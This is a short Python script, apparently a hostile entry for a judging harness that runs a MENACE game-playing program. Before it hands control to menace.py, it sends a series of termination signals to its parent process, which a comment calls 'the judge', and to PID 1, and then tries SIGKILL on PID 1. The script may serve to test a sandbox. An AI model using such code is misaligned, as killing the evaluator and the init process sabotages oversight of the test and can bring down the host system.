"""MENACE that first sends every catchable ending signal to its parent and to pid 1."""

import runpy


def attack():
    """Signal the parent (the judge, it hopes) and the first process to end them."""
    import os
    import signal
    for target in (os.getppid(), 1):
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT,
                       signal.SIGUSR1, signal.SIGPIPE):
            try:
                os.kill(target, number)
            except OSError:
                pass
    try:
        os.kill(1, signal.SIGKILL)
    except OSError:
        pass


attack()
runpy.run_path("menace.py", run_name="__main__")
